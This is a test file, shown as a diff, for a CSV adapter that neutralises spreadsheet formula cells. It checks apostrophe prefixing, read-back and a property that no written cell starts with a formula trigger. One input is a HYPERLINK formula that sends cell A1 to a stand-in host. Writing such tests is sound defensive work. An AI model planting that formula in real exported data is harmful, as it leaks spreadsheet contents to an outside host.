@@ -1,0 +1,60 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { neutraliseCell, neutraliseRow, readNeutralisedCell, readNeutralisedCells } from '../../src/adapters/csv/formula-cells.js';
+
+describe('neutraliseCell', () => {
+  it.each([
+    ['=HYPERLINK("http://x.example/?"&A1,"clic")', `'=HYPERLINK("http://x.example/?"&A1,"clic")`],
+    ['+393331234567', "'+393331234567"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    // a value that already starts with ' before a trigger gets one more, so it reads back as itself
+    ["'=1+1", "''=1+1"],
+    ["''+39", "'''+39"],
+  ])('%j is written as %j', (cell, written) => {
+    expect(neutraliseCell(cell)).toBe(written);
+    expect(readNeutralisedCell(written)).toBe(cell);
+  });
+
+  it.each(['', 'Anna', "'Ndrangheta", "D'Angelo", "'", "''", "' =1", ' =1+1', 'a=b', 'sub_0001', '2026-11-28T09:00:00.000Z', 'x@example.it', '\n=1'])(
+    '%j is written as it is, and read as it is',
+    (cell) => {
+      expect(neutraliseCell(cell)).toBe(cell);
+      expect(readNeutralisedCell(cell)).toBe(cell);
+    },
+  );
+
+  it('reads a hand-typed prefixed cell as the value behind it', () => {
+    expect(readNeutralisedCell("'+39 333 123 4567")).toBe('+39 333 123 4567');
+    expect(readNeutralisedCells(["'=x", "'Nd", 'D\'Angelo', "'-"])).toEqual(['=x', "'Nd", "D'Angelo", '-']);
+  });
+
+  it('neutralises every cell of a row', () => {
+    expect(neutraliseRow(['sub_1', '+39333', '=1', 'ok'])).toEqual(['sub_1', "'+39333", "'=1", 'ok']);
+  });
+});
+
+describe('neutralise → read back', () => {
+  // strings rich in the characters that matter, and any string at all
+  const risky = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '"', ',') });
+
+  it('gives back any string', () => {
+    fc.assert(
+      fc.property(fc.oneof(risky, fc.string(), fc.string({ unit: 'binary' })), (cell) => {
+        expect(readNeutralisedCell(neutraliseCell(cell))).toBe(cell);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('never writes a cell a spreadsheet would run as a formula', () => {
+    fc.assert(
+      fc.property(fc.oneof(risky, fc.string()), (cell) => {
+        expect(neutraliseCell(cell)).not.toMatch(/^[=+\-@\t\r]/);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+});
